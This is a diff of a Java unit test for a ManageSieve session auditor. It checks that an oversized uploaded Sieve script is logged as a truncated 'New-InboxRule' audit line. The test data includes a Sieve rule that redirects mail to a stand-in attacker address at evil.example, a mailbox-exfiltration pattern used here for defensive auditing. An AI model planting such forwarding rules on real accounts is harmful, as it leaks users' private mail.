@@ -138,15 +138,16 @@ class ManageSieveSessionAuditorTest {
         SieveRequestDecoder small = new SieveRequestDecoder(4096, 1 << 20, 5000);
         login("", "alice@contoso.com");
         String script = "# " + "x".repeat(200_000) + "\r\nredirect \"a@evil.example\";\r\n";
-        for (SieveRequest r : small.feed(ByteBuffer.wrap(("PUTSCRIPT \"big\" " + literal(script) + "\r\n")
-                .getBytes(StandardCharsets.UTF_8)))) {
+        for (SieveRequest r : small.feed(
+                ByteBuffer.wrap(("PUTSCRIPT \"big\" " + literal(script) + "\r\n").getBytes(StandardCharsets.UTF_8)))) {
             scanner.expect("PUTSCRIPT");
             auditor.onRequest(r);
         }
         server("OK\r\n");
         assertThat(lines()).singleElement().satisfies(line -> {
-            assertThat(line).startsWith("New-InboxRule -Mailbox 'alice@contoso.com' -Name 'big' -SieveScript 'big'"
-                    + " -SieveRule '(larger than the proxy keeps; it begins) # xxx");
+            assertThat(line)
+                    .startsWith("New-InboxRule -Mailbox 'alice@contoso.com' -Name 'big' -SieveScript 'big'"
+                            + " -SieveRule '(larger than the proxy keeps; it begins) # xxx");
             assertThat(line.length()).isLessThan(2000);
         });
     }
